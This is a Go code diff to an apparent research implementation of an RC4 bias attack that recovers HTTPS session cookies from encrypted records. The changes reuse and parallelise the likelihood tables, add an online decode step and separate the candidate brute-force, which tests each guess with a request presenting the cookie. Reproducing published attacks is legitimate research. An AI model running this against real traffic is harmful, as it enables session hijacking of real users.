@@ -70,6 +70,14 @@ type Attack struct {
 	// evidence came from; it rides along in snapshots so an exact-mode
 	// resume against a different stream can be rejected.
 	Stream snapshot.StreamInfo
+
+	// Decode-path scratch, reused across rounds: the online runtime decodes
+	// at every cadence point, so the 17 half-megabyte likelihood tables and
+	// the list-Viterbi N-best tables must not be rebuilt from scratch each
+	// time. Both are recomputed from the evidence on every call — only the
+	// allocations persist — so reuse never changes a result bit.
+	lk      []*recovery.PairLikelihoods
+	decoder recovery.PairDecoder
 }
 
 // New validates the configuration and prepares the evidence accumulators.
@@ -168,27 +176,38 @@ func (a *Attack) ObserveRecord(body []byte) error {
 
 // Likelihoods combines the FM and ABSAB evidence into one pair-likelihood
 // chain (eq. 25). Chain link r covers plaintext positions
-// (Offset-1+r, Offset+r).
+// (Offset-1+r, Offset+r). The chain links are independent, so the pass
+// fans them over the Workers pool (bitwise identical for any worker
+// count), and the 17 tables are reused across calls — the online runtime
+// re-runs this at every decode point. The returned slice aliases the
+// attack's scratch: it is valid until the next Likelihoods call.
 func (a *Attack) Likelihoods() ([]*recovery.PairLikelihoods, error) {
-	out := make([]*recovery.PairLikelihoods, a.chain)
-	for r := 0; r < a.chain; r++ {
-		i := (a.cfg.CounterBase + r) % 256
-		fm, err := recovery.FMPairLikelihoods(a.fm[r], i)
-		if err != nil {
-			return nil, err
+	if a.lk == nil {
+		a.lk = make([]*recovery.PairLikelihoods, a.chain)
+		for r := range a.lk {
+			a.lk[r] = new(recovery.PairLikelihoods)
 		}
-		lk := new(recovery.PairLikelihoods)
-		lk.Add(fm)
+	}
+	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
+		i := (a.cfg.CounterBase + r) % 256
+		lk := a.lk[r]
+		if err := recovery.FMPairLikelihoodsInto(lk, a.fm[r], i); err != nil {
+			return err
+		}
 		for c, w := range a.absab[r] {
 			lk[c] += w
 		}
-		out[r] = lk
+		return nil
+	})
+	if err != nil {
+		return nil, err
 	}
-	return out, nil
+	return a.lk, nil
 }
 
 // Candidates generates the n most likely cookies (full values, without the
-// surrounding known bytes) via Algorithm 2.
+// surrounding known bytes) via Algorithm 2, reusing the attack's likelihood
+// tables and list-Viterbi decoder across calls.
 func (a *Attack) Candidates(n int) ([]recovery.Candidate, error) {
 	lks, err := a.Likelihoods()
 	if err != nil {
@@ -196,7 +215,8 @@ func (a *Attack) Candidates(n int) ([]recovery.Candidate, error) {
 	}
 	m1 := a.cfg.Plaintext[a.cfg.Offset-1]
 	mL := a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]
-	cands, err := recovery.DoubleByteCandidates(lks, m1, mL, n, a.cfg.Charset)
+	a.decoder.Workers = a.Workers
+	cands, err := a.decoder.Decode(lks, m1, mL, n, a.cfg.Charset)
 	if err != nil {
 		return nil, err
 	}
@@ -207,20 +227,43 @@ func (a *Attack) Candidates(n int) ([]recovery.Candidate, error) {
 	return cands, nil
 }
 
-// BruteForce walks the candidate list, calling check (e.g. an HTTPS request
-// presenting the cookie) until it accepts; it returns the cookie and its
-// 1-based list position. This is the §6.2 negligible-time brute-force.
-func (a *Attack) BruteForce(n int, check func([]byte) bool) ([]byte, int, error) {
-	cands, err := a.Candidates(n)
+// Observed reports the records folded into the evidence pool — the
+// online runtime's progress counter.
+func (a *Attack) Observed() uint64 { return a.Records }
+
+// Decode generates up to max ranked cookie candidates from the current
+// evidence — the online runtime's decode step.
+func (a *Attack) Decode(max int) (recovery.CandidateSource, error) {
+	cands, err := a.Candidates(max)
 	if err != nil {
-		return nil, 0, err
+		return nil, err
 	}
+	return recovery.SliceSource(cands), nil
+}
+
+// WalkCandidates walks an already-generated candidate list, calling check
+// until it accepts; it returns the accepted value and its 1-based list
+// position. This is the oracle half of BruteForce, split from candidate
+// generation so one enumeration can serve several oracle passes (the
+// online loop decodes once per round and walks the result).
+func WalkCandidates(cands []recovery.Candidate, check func([]byte) bool) ([]byte, int, error) {
 	for i, c := range cands {
 		if check(c.Plaintext) {
 			return c.Plaintext, i + 1, nil
 		}
 	}
 	return nil, 0, errors.New("cookieattack: cookie not in candidate list")
+}
+
+// BruteForce generates the n most likely cookies and walks them against
+// check (e.g. an HTTPS request presenting the cookie) — the §6.2
+// negligible-time brute-force, composed from Candidates and WalkCandidates.
+func (a *Attack) BruteForce(n int, check func([]byte) bool) ([]byte, int, error) {
+	cands, err := a.Candidates(n)
+	if err != nil {
+		return nil, 0, err
+	}
+	return WalkCandidates(cands, check)
 }
 
 // SimulateStatistics fills the evidence tables by drawing sufficient
